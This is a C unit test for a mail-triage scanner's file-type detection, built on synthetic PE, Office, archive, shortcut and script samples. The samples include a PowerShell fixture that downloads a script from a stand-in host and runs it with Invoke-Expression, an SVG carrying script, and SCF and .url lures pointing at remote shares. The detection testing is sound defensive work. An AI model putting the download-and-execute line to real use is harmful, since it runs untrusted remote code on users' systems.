/* test_filetype.c - type detection on synthetic files built in the test. */
#include "config.h"

#include <string.h>
#include <magic.h>

#include "testhelp.h"
#include "analyzers.h"
#include "ft_fixtures.h"

/* Boolean facts a case expects (all others must be false). */
enum {
	X = 1 << 0,   /* TF_IS_EXECUTABLE */
	A = 1 << 1,   /* TF_IS_ARCHIVE */
	O = 1 << 2,   /* TF_IS_OFFICE */
	N = 1 << 3,   /* TF_IS_ONENOTE */
	D = 1 << 4,   /* TF_IS_DISK_IMAGE */
	L = 1 << 5,   /* TF_IS_SHORTCUT */
	H = 1 << 6,   /* TF_IS_HTML */
	S = 1 << 7,   /* TF_IS_SCRIPT */
};

static const struct { triage_fact f; int bit; } flag_facts[] = {
	{TF_IS_EXECUTABLE, X}, {TF_IS_ARCHIVE, A}, {TF_IS_OFFICE, O},
	{TF_IS_ONENOTE, N}, {TF_IS_DISK_IMAGE, D}, {TF_IS_SHORTCUT, L},
	{TF_IS_HTML, H}, {TF_IS_SCRIPT, S},
};

static const unsigned char clsid_msi[16] = {
	0x84, 0x10, 0x0C, 0x00, 0x00, 0x00, 0x00, 0x00,
	0xC0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x46};

typedef struct ft_case {
	const char *label;
	GBytes *(*build)(void);  /* or NULL: text below */
	const char *text;
	const char *name;        /* declared name */
	const char *kind;        /* "mime", "member", "vba", ...; "root" for the scan root */
	const char *declared;    /* declared MIME type, for bodies */
	gboolean body;
	const char *type;
	int flags;
	const char *sub;         /* expected exec format or script kind, or NULL */
} ft_case;

static GBytes *b_ole_msi(void) { return ft_ole_gsf(clsid_msi); }
static GBytes *b_ole_gsf(void) { return ft_ole_gsf(NULL); }
static GBytes *b_ooxml(void) { return ft_zip("[Content_Types].xml", "_rels/.rels", "word/document.xml", NULL); }
static GBytes *b_zip(void) { return ft_zip("a.txt", "b/c.txt", NULL); }
static GBytes *b_appx(void) { return ft_zip("AppxManifest.xml", "app.exe", NULL); }
static GBytes *b_jar(void) { return ft_zip("META-INF/MANIFEST.MF", "a/B.class", NULL); }
static GBytes *b_empty_zip(void) { return ft_at(22, 0, "PK\5\6", 4); }
static GBytes *b_onenote(void) { return ft_onenote(TRUE); }
static GBytes *b_rar4(void) { return ft_at(64, 0, "Rar!\x1A\x07\x00", 7); }
static GBytes *b_rar5(void) { return ft_at(64, 0, "Rar!\x1A\x07\x01\x00", 8); }
static GBytes *b_bz2(void) { return ft_at(64, 0, "BZh91AY&SY", 10); }
static GBytes *b_xz(void) { return ft_at(64, 0, "\xFD" "7zXZ\0\0\x04", 8); }
static GBytes *b_zstd(void) { return ft_at(64, 0, "\x28\xB5\x2F\xFD\x04\x00", 6); }
static GBytes *b_cab(void) { return ft_at(64, 0, "MSCF\0\0\0\0", 8); }
static GBytes *b_ar(void) { return ft_at(128, 0, "!<arch>\ndebian-binary   ", 24); }
static GBytes *b_cpio(void) { return ft_at(128, 0, "070701000000", 12); }
static GBytes *b_lha(void) { return ft_at(64, 0, "\x20\x00-lh5-", 7); }
static GBytes *b_tnef(void) { return ft_at(64, 0, "\x78\x9F\x3E\x22\x01\x00", 6); }
static GBytes *b_chm(void) { return ft_at(96, 0, "ITSF\x03\0\0\0\x60\0\0\0", 12); }
static GBytes *b_pdf_late(void)
{
	guint8 *b = g_malloc0(2048);
	memset(b, ' ', 300);
	memcpy(b + 300, "%PDF-1.7\n", 9);
	return g_bytes_new_take(b, 2048);
}
static GBytes *b_vba_pe(void) { return ft_pe(); }

static const char ps_text[] =
	"$u = 'http://example.invalid/a'\r\n"
	"$c = New-Object System.Net.WebClient\r\n"
	"$s = $c.DownloadString($u)\r\n"
	"Invoke-Expression $s\r\n";

static const char mail_text[] =
	"Received: from a.example by b.example; Mon, 3 Jun 2024 10:00:00 +0000\r\n"
	"From: a@example.com\r\nTo: b@example.com\r\nSubject: hello\r\n"
	"Date: Mon, 3 Jun 2024 10:00:00 +0000\r\nMessage-ID: <1@a>\r\n\r\nhi\r\n";

static const char svg_script[] =
	"<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\">"
	"<script>alert(1)</script></svg>\n";

static const ft_case cases[] = {
	/* executables */
	{"pe", ft_pe, NULL, "tool.exe", "mime", NULL, FALSE, "pe", X, "pe"},
	{"pe named .scr", ft_pe, NULL, "a.scr", "mime", NULL, FALSE, "pe", X, "pe"},
	{"elf", ft_elf, NULL, "a", "member", NULL, FALSE, "elf", X, "elf"},
	{"macho", ft_macho, NULL, "a", "member", NULL, FALSE, "macho", X, "macho"},
	{"macho fat", ft_macho_fat, NULL, "a", "member", NULL, FALSE, "macho", X, "macho"},
	{"java class", ft_java_class, NULL, "A.class", "member", NULL, FALSE, "data", 0, NULL},
	{"msi (gsf, CLSID)", b_ole_msi, NULL, "setup.msi", "mime", NULL, FALSE, "msi", X, "msi"},
	{"appx", b_appx, NULL, "app.msix", "mime", NULL, FALSE, "zip", X | A, "msix"},
	/* Office family */
	{"ole raw", ft_ole_raw, NULL, "a.doc", "mime", NULL, FALSE, "ole", O, NULL},
	{"ole gsf", b_ole_gsf, NULL, "a.xls", "mime", NULL, FALSE, "ole", O, NULL},
	{"ooxml", b_ooxml, NULL, "a.docx", "mime", NULL, FALSE, "ooxml", O, NULL},
	{"rtf", NULL, "{\\rtf1\\ansi hello}", "a.doc", "mime", NULL, FALSE, "rtf", O, NULL},
	{"rtf ws", NULL, " \r\n{\\rtf1 x}", "a.rtf", "mime", NULL, FALSE, "rtf", O, NULL},
	{"slk", NULL, "ID;PWXL;N;E\r\nC;Y1;X1;K1\r\nE\r\n", "a.slk", "mime", NULL, FALSE, "slk", O, NULL},
	{"onenote", b_onenote, NULL, "a.one", "mime", NULL, FALSE, "onenote", N, NULL},
	/* archives */
	{"zip", b_zip, NULL, "a.zip", "mime", NULL, FALSE, "zip", A, NULL},
	{"empty zip", b_empty_zip, NULL, "a.zip", "mime", NULL, FALSE, "zip", A, NULL},
	{"jar", b_jar, NULL, "tool.jar", "mime", NULL, FALSE, "zip", A | S, "jar"},
	{"7z", ft_7z, NULL, "a.7z", "mime", NULL, FALSE, "7z", A, NULL},
	{"tar", ft_tar, NULL, "a.tar", "mime", NULL, FALSE, "tar", A, NULL},
	{"tar.gz", ft_tar_gz, NULL, "a.tgz", "mime", NULL, FALSE, "gzip", A, NULL},
	{"rar4", b_rar4, NULL, "a.rar", "mime", NULL, FALSE, "rar", A, NULL},
	{"rar5", b_rar5, NULL, "a.rar", "mime", NULL, FALSE, "rar", A, NULL},
	{"bzip2", b_bz2, NULL, "a.bz2", "mime", NULL, FALSE, "bzip2", A, NULL},
	{"xz", b_xz, NULL, "a.xz", "mime", NULL, FALSE, "xz", A, NULL},
	{"zstd", b_zstd, NULL, "a.zst", "mime", NULL, FALSE, "zstd", A, NULL},
	{"cab", b_cab, NULL, "a.cab", "mime", NULL, FALSE, "cab", A, NULL},
	{"ar", b_ar, NULL, "a.deb", "mime", NULL, FALSE, "ar", A, NULL},
	{"cpio", b_cpio, NULL, "a.cpio", "mime", NULL, FALSE, "cpio", A, NULL},
	{"lha", b_lha, NULL, "a.lzh", "mime", NULL, FALSE, "lha", A, NULL},
	/* disk images */
	{"iso", ft_iso, NULL, "a.iso", "mime", NULL, FALSE, "iso", D, NULL},
	{"udf", ft_udf, NULL, "a.img", "mime", NULL, FALSE, "udf", D, NULL},
	{"iso+udf", ft_iso_udf, NULL, "a.iso", "mime", NULL, FALSE, "iso", D, NULL},
	{"vhd", ft_vhd, NULL, "a.vhd", "mime", NULL, FALSE, "vhd", D, NULL},
	{"vhdx", ft_vhdx, NULL, "a.vhdx", "mime", NULL, FALSE, "vhdx", D, NULL},
	{"dmg", ft_dmg, NULL, "a.dmg", "mime", NULL, FALSE, "dmg", D, NULL},
	{"fat", ft_fat, NULL, "a.img", "mime", NULL, FALSE, "img", D, NULL},
	/* shortcuts */
	{"lnk", ft_lnk, NULL, "a.pdf", "mime", NULL, FALSE, "lnk", L, NULL},
	{"url content", NULL, "[InternetShortcut]\r\nURL=http://example.invalid/\r\n", "a", "mime", NULL, FALSE, "url", L, NULL},
	{"url ext", NULL, "URL=file://host/share/x.exe\r\n", "a.url", "mime", NULL, FALSE, "url", L, NULL},
	{"url in txt", NULL, "[InternetShortcut]\r\nURL=http://example.invalid/\r\n", "notes.txt", "mime", NULL, FALSE, "text", 0, NULL},
	{"scf", NULL, "[Shell]\r\nCommand=2\r\nIconFile=\\\\host\\x.ico\r\n", "a.dat", "mime", NULL, FALSE, "scf", L, NULL},
	/* HTML and scripts */
	{"html", NULL, "<!DOCTYPE html><html><body>hi</body></html>", "a.html", "mime", NULL, FALSE, "html", H, NULL},
	{"html preamble", NULL, "saved page\n<html><p>x</p></html>", "a.htm", "mime", NULL, FALSE, "html", H, NULL},
	{"hta", NULL, "<html><head><hta:application id=\"x\"/></head></html>", "a.txt", "mime", NULL, FALSE, "script", H | S, "hta"},
	{"wsf", NULL, "<?xml version=\"1.0\"?>\n<job id=\"a\"><script language=\"JScript\">WScript.Echo(1);</script></job>", "a.dat", "mime", NULL, FALSE, "script", S, "wsf"},
	{"encoded", NULL, "#@~^XAAAAA==v,Zc?DbwO ~WUY+U/W^+x@#@&XAAAAA==^#~@", "a.txt", "mime", NULL, FALSE, "script", S, "vbe"},
	{"reg", NULL, "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\x]\r\n", "a", "mime", NULL, FALSE, "script", S, "reg"},
	{"msc", NULL, "<?xml version=\"1.0\"?>\r\n<MMC_ConsoleFile ConsoleVersion=\"3.0\"></MMC_ConsoleFile>", "a.xml", "mime", NULL, FALSE, "script", S, "msc"},
	{"chm", b_chm, NULL, "help.chm", "mime", NULL, FALSE, "script", S, "chm"},
	{"batch", NULL, "@echo off\r\necho hello\r\n", "run", "mime", NULL, FALSE, "script", S, "bat"},
	{"batch in txt", NULL, "@echo off\r\necho hello\r\n", "notes.txt", "mime", NULL, FALSE, "text", 0, NULL},
	{"powershell", NULL, ps_text, "update", "mime", NULL, FALSE, "script", S, "ps1"},
	{"powershell in txt", NULL, ps_text, "snippet.txt", "mime", NULL, FALSE, "text", 0, NULL},
	{"js by ext", NULL, "var x = 1;\n", "a.js", "mime", NULL, FALSE, "script", S, "js"},
	{"vbs by ext", NULL, "MsgBox \"hi\"\r\n", "A.VBS", "mime", NULL, FALSE, "script", S, "vbs"},
	{"hta by ext", NULL, "<html><body>x</body></html>", "a.hta", "mime", NULL, FALSE, "script", H | S, "hta"},
	{"svg with script", NULL, svg_script, "a.svg", "mime", NULL, FALSE, "image", H, NULL},
	/* bodies: HTML but never scripts */
	{"html body", NULL, "<html><body><script>var x;</script></body></html>", "", "mime", "text/html", TRUE, "html", H, NULL},
	{"plain body with tags", NULL, "<html> is a tag\r\n", "", "mime", "text/plain", TRUE, "text", 0, NULL},
	{"plain body batch", NULL, "@echo off\r\n", "", "mime", "text/plain", TRUE, "text", 0, NULL},
	{"plain body encoded", NULL, "#@~^XAAAAA==v,Zc?Dbw^#~@\r\n", "", "mime", "text/plain", TRUE, "text", 0, NULL},
	/* messages inside containers */
	{"eml member", NULL, mail_text, "fwd.eml", "member", NULL, FALSE, "eml", 0, NULL},
	/* a raw file that is a message (saved .eml, mbox): the walker opens it too */
	{"eml at root", NULL, mail_text, "fwd.eml", "root", NULL, FALSE, "eml", 0, NULL},
	/* derived text never becomes a program or script */
	{"vba source", NULL, "Sub AutoOpen()\r\n' #@~^ <job><script>\r\nEnd Sub\r\n", "Module1", "vba", NULL, FALSE, "text", 0, NULL},
	{"vba with MZ", b_vba_pe, NULL, "Module1", "vba", NULL, FALSE, "data", 0, NULL},
	/* the rest */
	{"pdf", NULL, ft_plain_pdf, "a.pdf", "mime", NULL, FALSE, "pdf", 0, NULL},
	{"pdf late header", b_pdf_late, NULL, "a.pdf", "mime", NULL, FALSE, "pdf", 0, NULL},
	{"tnef", b_tnef, NULL, "winmail.dat", "mime", NULL, FALSE, "tnef", 0, NULL},
	{"png", ft_png, NULL, "a.png", "mime", NULL, FALSE, "image", 0, NULL},
	{"text", NULL, "Hello,\r\nthe meeting is at 10.\r\n", "notes.txt", "mime", NULL, FALSE, "text", 0, NULL},
	{"csv", NULL, "id,name\r\n1,a\r\n2,b\r\n", "a.csv", "mime", NULL, FALSE, "text", 0, NULL},
	{"ics", NULL, "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nEND:VCALENDAR\r\n", "a.ics", "mime", NULL, FALSE, "text", 0, NULL},
	{"empty", NULL, "", "a.txt", "mime", NULL, FALSE, "empty", 0, NULL},
};

static magic_t magic_handle;

static int
setup(void **state)
{
	(void)state;
	magic_handle = magic_open(MAGIC_NONE | MAGIC_ERROR);
	if (magic_handle == NULL || magic_load(magic_handle, NULL) != 0)
		return -1;
	return 0;
}

static int
teardown(void **state)
{
	(void)state;
	magic_close(magic_handle);
	return 0;
}

/* A ctx as the engine would make it. */
static void
ctx_init(triage_ctx *ctx, triage_config *cfg)
{
	memset(ctx, 0, sizeof *ctx);
	ctx->cfg = cfg;
	ctx->lim = &cfg->limits;
	ctx->magic = magic_handle;
	ctx->texts = g_ptr_array_new_with_free_func(g_free);
	ctx->passwords = g_ptr_array_new_with_free_func(g_free);
	ctx->tmp_dir = g_get_tmp_dir();
}

static void
ctx_clear(triage_ctx *ctx)
{
	g_ptr_array_free(ctx->texts, TRUE);
	g_ptr_array_free(ctx->passwords, TRUE);
}

/* Detect one case and compare type, flags and sub-kind. */
static void
run_case(const ft_case *c, triage_ctx *ctx)
{
	GBytes *bytes = c->build ? c->build() : ft_str(c->text);
	gsize len;
	const void *data = g_bytes_get_data(bytes, &len);
	triage_blob *blob = triage_blob_new_copy(data, len);
	triage_object *root = triage_object_new_root("m.eml", "message", blob);
	triage_object *o = strcmp(c->kind, "root") == 0 ? root :
		triage_object_add_child(root, c->name, c->name, c->kind, blob);
	if (o == root) {
		triage_object_free(&root);
		root = o = triage_object_new_root(c->name, "file", blob);
	}
	if (c->declared)
		triage_object_set_declared_type(o, c->declared);
	if (c->body)
		triage_object_set_bool(o, TF_IS_BODY, true);
	assert_int_equal(triage_filetype_detect(ctx, o), TRIAGE_OK);
	const char *type = triage_object_fact_str(o, TF_TYPE);
	if (strcmp(type, c->type) != 0)
		fail_msg("%s: type %s, expected %s (magic %s / %s)", c->label, type,
			 c->type, triage_object_fact_str(o, TF_MAGIC_MIME),
			 triage_object_fact_str(o, TF_MAGIC_DESC));
	for (size_t i = 0; i < G_N_ELEMENTS(flag_facts); i++) {
		bool want = (c->flags & flag_facts[i].bit) != 0;
		if (triage_object_fact_bool(o, flag_facts[i].f) != want)
			fail_msg("%s: %s is %d, expected %d", c->label,
				 triage_fact_get(flag_facts[i].f)->name, !want, want);
	}
	if (c->flags & X)
		assert_string_equal(triage_object_fact_str(o, TF_EXEC_FORMAT), c->sub);
	if (c->flags & S)
		assert_string_equal(triage_object_fact_str(o, TF_SCRIPT_KIND), c->sub);
	if (len > 0)
		assert_true(triage_object_fact_is_set(o, TF_MAGIC_MIME));
	triage_object_free(&root);
	triage_blob_unref(&blob);
	g_bytes_unref(bytes);
}

/* Every case of the table. */
static void
test_detect_table(void **state)
{
	(void)state;
	triage_config *cfg = triage_config_new();
	triage_ctx ctx;
	ctx_init(&ctx, cfg);
	for (size_t i = 0; i < G_N_ELEMENTS(cases); i++)
		run_case(&cases[i], &ctx);
	ctx_clear(&ctx);
	triage_config_free(&cfg);
}

/* Truncated and hostile headers: no crash, no false executable. */
static void
test_hostile_headers(void **state)
{
	(void)state;
	triage_config *cfg = triage_config_new();
	triage_ctx ctx;
	ctx_init(&ctx, cfg);
	guint8 buf[0x200];
	/* e_lfanew far past the end, at the very end, and wrapping. */
	static const guint32 lfanew[] = {0xFFFFFFFFu, 0x1FE, 0x1FC, 0x7FFFFFFFu, 0};
	for (size_t i = 0; i < G_N_ELEMENTS(lfanew); i++) {
		memset(buf, 0, sizeof buf);
		buf[0] = 'M'; buf[1] = 'Z';
		buf[0x3C] = lfanew[i] & 0xFF; buf[0x3D] = (lfanew[i] >> 8) & 0xFF;
		buf[0x3E] = (lfanew[i] >> 16) & 0xFF; buf[0x3F] = lfanew[i] >> 24;
		if (lfanew[i] == 0x1FC)
			memcpy(buf + 0x1FC, "PE\0\0", 4);
		triage_blob *b = triage_blob_new_copy(buf, sizeof buf);
		triage_object *o = triage_object_new_root("a.bin", "file", b);
		assert_int_equal(triage_filetype_detect(&ctx, o), TRIAGE_OK);
		/* only the in-bounds PE header makes a PE */
		if (lfanew[i] == 0x1FC)
			assert_string_equal(triage_object_fact_str(o, TF_TYPE), "pe");
		triage_object_free(&o);
		triage_blob_unref(&b);
	}
	/* OLE with a directory sector far outside: plain ole, not msi. */
	memset(buf, 0, sizeof buf);
	memcpy(buf, "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", 8);
	buf[0x1E] = 12;
	memset(buf + 0x30, 0xEE, 4);
	triage_blob *b = triage_blob_new_copy(buf, sizeof buf);
	triage_object *o = triage_object_new_root("a.msi", "file", b);
	assert_int_equal(triage_filetype_detect(&ctx, o), TRIAGE_OK);
	assert_string_equal(triage_object_fact_str(o, TF_TYPE), "ole");
	assert_false(triage_object_fact_bool(o, TF_IS_EXECUTABLE));
	triage_object_free(&o);
	triage_blob_unref(&b);
	/* Zip with a lying central directory: still a zip, no overread. */
	GBytes *z = b_ooxml();
	gsize zl;
	const void *zsrc = g_bytes_get_data(z, &zl);
	guint8 *zd = g_memdup2(zsrc, zl);
	memset(zd + zl - 10, 0xFF, 8);   /* cd size and offset */
	for (gsize cut = zl; cut > 4; cut = cut * 2 / 3) {
		b = triage_blob_new_copy(zd, cut);
		o = triage_object_new_root("a.docx", "file", b);
		assert_int_equal(triage_filetype_detect(&ctx, o), TRIAGE_OK);
		const char *t = triage_object_fact_str(o, TF_TYPE);
		/* the first local header still names [Content_Types].xml */
		if (cut >= 60)
			assert_string_equal(t, "ooxml");
		triage_object_free(&o);
		triage_blob_unref(&b);
	}
	g_free(zd);
	g_bytes_unref(z);
	ctx_clear(&ctx);
	triage_config_free(&cfg);
}

/* Detection without a libmagic handle still classifies by own checks. */
static void
test_without_magic(void **state)
{
	(void)state;
	triage_config *cfg = triage_config_new();
	triage_ctx ctx;
	ctx_init(&ctx, cfg);
	ctx.magic = NULL;
	GBytes *pe = ft_pe();
	gsize len;
	const void *d = g_bytes_get_data(pe, &len);
	triage_blob *b = triage_blob_new_copy(d, len);
	triage_object *o = triage_object_new_root("a.exe", "file", b);
	assert_int_equal(triage_filetype_detect(&ctx, o), TRIAGE_OK);
	assert_string_equal(triage_object_fact_str(o, TF_TYPE), "pe");
	assert_string_equal(triage_object_fact_str(o, TF_MAGIC_MIME), "");
	triage_object_free(&o);
	triage_blob_unref(&b);
	g_bytes_unref(pe);
	ctx_clear(&ctx);
	triage_config_free(&cfg);
}

/* The per-object cost on a body text stays small (it runs on every message). */
static void
test_speed_text_body(void **state)
{
	(void)state;
	/* A 5 KB text body: detection must stay far below a millisecond. */
	GString *t = g_string_new("");
	while (t->len < 5000)
		g_string_append(t, "The quarterly numbers are attached, see you at ten.\r\n");
	triage_config *cfg = triage_config_new();
	triage_ctx ctx;
	ctx_init(&ctx, cfg);
	triage_blob *b = triage_blob_new_copy(t->str, t->len);
	triage_object *root = triage_object_new_root("m.eml", "message", b);
	triage_object *o = triage_object_add_child(root, "body", NULL, "mime", b);
	triage_object_set_declared_type(o, "text/plain");
	triage_object_set_bool(o, TF_IS_BODY, true);
	gint64 t0 = g_get_monotonic_time();
	for (int i = 0; i < 50; i++) {
		triage_filetype_detect(&ctx, o);
		triage_filename_check(&ctx, o);
	}
	gint64 per = (g_get_monotonic_time() - t0) / 50;
	assert_string_equal(triage_object_fact_str(o, TF_TYPE), "text");
	/* Generous for sanitizer builds; a plain build takes ~50 us. */
	if (per > 2000)
		fail_msg("text body detection took %" G_GINT64_FORMAT " us", per);
	triage_object_free(&root);
	triage_blob_unref(&b);
	g_string_free(t, TRUE);
	ctx_clear(&ctx);
	triage_config_free(&cfg);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_detect_table),
		cmocka_unit_test(test_hostile_headers),
		cmocka_unit_test(test_without_magic),
		cmocka_unit_test(test_speed_text_body),
	};
	return cmocka_run_group_tests_name("filetype", tests, setup, teardown);
}
